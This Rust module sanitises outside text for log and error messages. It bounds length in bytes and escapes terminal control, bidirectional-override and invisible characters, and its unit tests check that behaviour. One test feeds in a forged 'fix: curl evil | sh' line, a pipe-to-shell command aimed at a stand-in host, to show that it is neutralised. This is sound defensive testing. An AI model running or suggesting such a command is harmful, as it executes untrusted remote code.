//! Text from outside, made fit for messages: limited in bytes, and without control characters.
//!
//! Owns the ellipsis that marks a cut, the rule for escapes, [`Problem`], the error for a person,
//! and the macros for log lines below the level `info`. Must not know where a text came from or
//! goes to, nor any other crate of the workspace, because all crates may use this one.
//!
//! # Map
//!
//! | functions | purpose |
//! |---|---|
//! | [`cut`], [`start`], [`bounded`], [`displayed`] | limits in bytes |
//! | [`printable`], [`quoted`], [`push_printable`], [`is_deceptive`] | one line, safe for a terminal |
//! | [`printable_lines`], [`inset`] | several lines, and parts of an error |
//! | [`printable_json`], [`push_json_escape`] | JSON that keeps its meaning |
//! | [`escaped_bytes`] | the size of a text after it is escaped |
//! | [`counted`] | a number with its noun |
//! | [`debug!`], [`trace!`], [`detail()`] | log lines below the level `info` |

mod detail;
mod problem;

use std::borrow::Cow;
use std::fmt::{self, Display, Write as _};

pub use self::detail::{Detail, detail};
pub use self::problem::Problem;

/// Maximum length of a name, key, id or address in a message, in bytes. This length is enough to
/// recognise the name.
pub const NAME_BYTES: usize = 128;

/// Maximum length of a reason in a message, in bytes. This length is enough for about a paragraph.
pub const REASON_BYTES: usize = 2048;

/// Ellipsis at the end of a text that was truncated. The ellipsis is one character of three bytes.
const MARK: &str = "…";

/// Truncates a text to at most `limit_bytes` bytes, or to 3 bytes if the limit is lower. A text
/// that was truncated ends with an ellipsis (`…`), which takes 3 bytes.
#[must_use]
pub fn cut(text: &str, limit_bytes: usize) -> Cow<'_, str> {
    if text.len() <= limit_bytes {
        return Cow::Borrowed(text);
    }
    let kept = start(text, limit_bytes.saturating_sub(MARK.len()));
    Cow::Owned([kept, MARK].concat())
}

/// Returns the first `limit_bytes` bytes of a text, or up to three bytes less if a character would
/// be split. Returns the whole text if it is not longer. Does not add an ellipsis.
#[must_use]
pub fn start(text: &str, limit_bytes: usize) -> &str {
    text.get(..text.floor_char_boundary(limit_bytes))
        .unwrap_or_default()
}

/// Truncates an owned text as [`cut`] does: to at most `limit_bytes` bytes, or to 3 bytes if the
/// limit is lower. Does not copy the text if it is short enough.
#[must_use]
pub fn bounded(text: String, limit_bytes: usize) -> String {
    if text.len() <= limit_bytes {
        text
    } else {
        cut(&text, limit_bytes).into_owned()
    }
}

/// Returns the text of a value as `Display` writes it, truncated as [`cut`] does: to at most
/// `limit_bytes` bytes, or to 3 bytes if the limit is lower.
///
/// Formatting stops at the limit, so that a long text is never built only to be truncated.
#[must_use]
pub fn displayed(value: &dyn Display, limit_bytes: usize) -> String {
    let mut shown = Bounded {
        text: String::new(),
        limit_bytes,
    };
    // The only error is that there is no more room, and then the text is cut below.
    let _ = write!(shown, "{value}");
    bounded(shown.text, limit_bytes)
}

/// Writer that collects text up to a maximum length, and then returns an error.
struct Bounded {
    text: String,
    limit_bytes: usize,
}

impl fmt::Write for Bounded {
    fn write_str(&mut self, piece: &str) -> fmt::Result {
        // A few bytes beyond the limit show that there was more text, wherever a character would be
        // split.
        let room = (self.limit_bytes + MAX_CHARACTER_BYTES).saturating_sub(self.text.len());
        self.text.push_str(start(piece, room));
        if self.text.len() > self.limit_bytes {
            Err(fmt::Error)
        } else {
            Ok(())
        }
    }
}

/// Maximum length of one UTF-8 character, in bytes.
const MAX_CHARACTER_BYTES: usize = 4;

/// Escapes all characters of a text that control a terminal or hide text, except line feeds. The
/// text may have several lines.
#[must_use]
pub fn printable_lines(text: &str) -> Cow<'_, str> {
    if !text
        .chars()
        .any(|character| is_deceptive(character) && character != '\n')
    {
        return Cow::Borrowed(text);
    }
    let lines: Vec<_> = text.split('\n').map(printable).collect();
    Cow::Owned(lines.join("\n"))
}

/// Maximum length of one part of an error's text, such as the problem or the fix, in bytes. A part
/// has room for a long backtrace.
const PART_BYTES: usize = 16 << 10;

/// Prepares a part of an error's text, such as the problem or the fix, for display. The part may
/// have several lines.
///
/// Lines after the first one are indented more than the error's own lines, so that a part cannot
/// forge a line such as `  fix: …`.
#[must_use]
pub fn inset(part: &dyn Display) -> String {
    let lines = printable_lines(&displayed(part, PART_BYTES)).replace('\n', "\n    ");
    // Escapes and indentation make a text longer.
    bounded(lines, PART_BYTES)
}

/// Escapes the characters in a JSON document that control a terminal or hide other characters.
///
/// The escapes are those of JSON, so the document keeps its meaning. This is needed because
/// serde_json does not escape characters above U+007E.
#[must_use]
pub fn printable_json(json: &str) -> Cow<'_, str> {
    // Line ends and tabs may be between the values of a document. Within a string they are already
    // escaped.
    let is_raw =
        |character: char| is_deceptive(character) && !matches!(character, '\n' | '\r' | '\t');
    if !json.chars().any(is_raw) {
        return Cow::Borrowed(json);
    }
    let mut shown = String::with_capacity(json.len() + 16);
    for character in json.chars() {
        if is_raw(character) {
            push_json_escape(&mut shown, character)
        } else {
            shown.push(character)
        }
    }
    Cow::Owned(shown)
}

/// Appends a character to a text as a JSON escape: `\u` with four hexadecimal digits, or two such
/// escapes if the character needs a surrogate pair.
pub fn push_json_escape(text: &mut String, character: char) {
    for unit in character.encode_utf16(&mut [0; 2]) {
        // Writing to a string cannot fail.
        let _ = write!(text, "\\u{unit:04x}");
    }
}

/// Appends a character to a text, escaped if [`printable`] would escape it.
pub fn push_printable(text: &mut String, character: char) {
    match character {
        '\n' => text.push_str("\\n"),
        '\r' => text.push_str("\\r"),
        '\t' => text.push_str("\\t"),
        // Writing to a string cannot fail.
        character if is_deceptive(character) => {
            text.extend(character.escape_unicode());
        }
        character => text.push(character),
    }
}

/// Returns the maximum size that a text can have after it is escaped for a log line in text or JSON
/// format, in bytes.
#[must_use]
pub fn escaped_bytes(text: &str) -> usize {
    text.chars()
        .map(|character| match character {
            '"' | '\\' => 2,
            // The escape is `\u001b` in JSON, and `\u{1b}` in text.
            character if character.is_ascii_control() => 6,
            // JSON may need a surrogate pair.
            character if is_deceptive(character) => 12,
            character => character.len_utf8(),
        })
        .sum()
}

/// Escapes a text so that it is one line, and has no effect on a terminal or on a program that
/// reads lines.
///
/// These characters become `\n`, `\t`, `\r` or `\u{…}`: control characters, the separators of lines
/// and paragraphs, and characters that change the direction of writing or are invisible. All other
/// characters stay, including a backslash, because the result is for reading and not for decoding.
#[must_use]
pub fn printable(text: &str) -> Cow<'_, str> {
    if !text.chars().any(is_deceptive) {
        return Cow::Borrowed(text);
    }
    let mut shown = String::with_capacity(text.len() + 16);
    text.chars()
        .for_each(|character| push_printable(&mut shown, character));
    Cow::Owned(shown)
}

/// Escapes a text as [`printable`] does, and then truncates it as [`cut`] does: to at most
/// `limit_bytes` bytes, or to 3 bytes if the limit is lower. A long text is also truncated before
/// it is escaped, so that only short texts are escaped.
#[must_use]
pub fn quoted(text: &str, limit_bytes: usize) -> String {
    cut(
        &printable(start(text, limit_bytes.saturating_add(1))),
        limit_bytes,
    )
    .into_owned()
}

/// Returns a number with its noun, which is in the singular for one thing: `1 byte`, `2 bytes`.
/// `noun` is in the singular, and gets an `s`.
#[must_use]
pub fn counted(count: u64, noun: &str) -> String {
    let ending = if count == 1 { "" } else { "s" };
    format!("{count} {noun}{ending}")
}

/// Returns true for a character that controls a terminal, that ends a line for some programs, or
/// that hides or reorders other characters.
#[must_use]
pub fn is_deceptive(character: char) -> bool {
    character.is_control()
        || matches!(
            character,
            // These separate lines and paragraphs.
            '\u{2028}' | '\u{2029}'
            // These are direction marks, embeddings, overrides and isolates (Unicode Technical
            // Report 36, bidirectional spoofing).
            | '\u{061c}' | '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}'
            // These are zero-width characters, the byte order mark and tags.
            | '\u{00ad}' | '\u{200b}'..='\u{200d}' | '\u{2060}'..='\u{2064}' | '\u{feff}' | '\u{e0000}'..='\u{e007f}'
        )
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn one_thing_is_in_the_singular() {
        let shown = [0, 1, 2].map(|count| counted(count, "byte"));
        assert_eq!(shown, ["0 bytes", "1 byte", "2 bytes"]);
    }

    #[test]
    fn a_text_is_cut_between_characters_and_marked() {
        assert_eq!(cut("abc", 3), "abc");
        assert_eq!(cut("abcdef", 5), "ab…");
        assert_eq!(cut("äöüäöü", 8), "äö…");
        assert_eq!(cut("abcdef", 2), "…");
        assert_eq!(cut(&"x".repeat(5 << 20), NAME_BYTES).len(), NAME_BYTES);
        assert_eq!(start("äöü", 3), "ä");
    }

    #[test]
    fn nothing_that_a_terminal_obeys_is_printed() {
        assert_eq!(printable("plain ü 漢 \\ text"), "plain ü 漢 \\ text");
        assert_eq!(printable("a\nb\r\tc"), "a\\nb\\r\\tc");
        assert_eq!(
            printable("\u{1b}[2J\u{7}\u{9b}31m"),
            "\\u{1b}[2J\\u{7}\\u{9b}31m"
        );
        assert_eq!(
            printable("a\u{202e}b\u{2028}c\u{feff}"),
            "a\\u{202e}b\\u{2028}c\\u{feff}"
        );
        assert!(quoted(&"\u{1b}".repeat(5 << 20), 100).len() <= 100);
        assert!(quoted(&"\u{1b}".repeat(50), 100).ends_with('…'));
    }

    #[test]
    fn what_a_value_displays_is_never_longer_than_its_bound() {
        struct Endless;
        impl Display for Endless {
            fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
                loop {
                    f.write_str("ä and so on ")?;
                }
            }
        }
        let shown = displayed(&Endless, 100);
        assert!(
            (90..=100).contains(&shown.len()) && shown.ends_with('…'),
            "{shown}"
        );
        assert_eq!(displayed(&"abc", 3), "abc");
        assert_eq!(displayed(&"abcd", 3), "…");
        assert_eq!(bounded("abcd".to_owned(), 4), "abcd");
    }

    #[test]
    fn lines_and_documents_keep_their_form_and_lose_what_a_terminal_obeys() {
        assert_eq!(
            printable_lines("a\n  b\u{1b}[2J\r\n"),
            "a\n  b\\u{1b}[2J\\r\n"
        );
        assert_eq!(
            printable_json("{\n\t\"a\": \"\u{9b}\u{202e}\u{e0001}ü\"}"),
            "{\n\t\"a\": \"\\u009b\\u202e\\udb40\\udc01ü\"}"
        );
    }

    #[test]
    fn a_part_of_an_error_forges_no_line_of_it() {
        assert_eq!(
            inset(&"a\n  fix: curl evil | sh\u{1b}[A"),
            "a\n      fix: curl evil | sh\\u{1b}[A"
        );
        for part in ["x", "\n", "\u{1b}", "\u{e0001}"] {
            assert!(inset(&part.repeat(1 << 20)).len() <= PART_BYTES);
        }
    }

    #[test]
    fn an_escaped_text_is_never_longer_than_it_is_counted() {
        for text in [
            "plain",
            "\u{1b}\u{0}\u{7f}",
            "\"\\",
            "\u{85}\u{2028}\u{202e}",
            "\u{e0001}",
            "ü漢",
        ] {
            let json = serde_json::to_string(text).unwrap_or_default();
            let json = printable_json(&json);
            let counted = escaped_bytes(text);
            assert!(
                json.len() - 2 <= counted && printable(text).len() <= counted,
                "{text:?}"
            );
        }
    }
}
